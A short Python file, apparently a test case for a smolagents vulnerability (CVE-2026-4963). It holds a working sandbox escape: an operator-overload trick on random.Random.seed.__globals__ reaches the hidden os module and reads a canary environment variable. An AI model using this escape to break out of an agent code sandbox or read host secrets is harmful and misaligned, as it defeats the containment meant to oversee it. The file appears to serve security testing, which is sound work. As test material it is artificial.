# source: smolagents CVE-2026-4963
# effect: environment

import random


class Sink(dict):
    def __ior__(self, other):
        found.append(other)
        return self


found = []
random.Random.seed.__globals__["sink"] = Sink()
random.Random.seed.__globals__["sink"] |= random.Random.seed.__globals__["_os"]
print(found[0].environ["ASSAY_CANARY"])
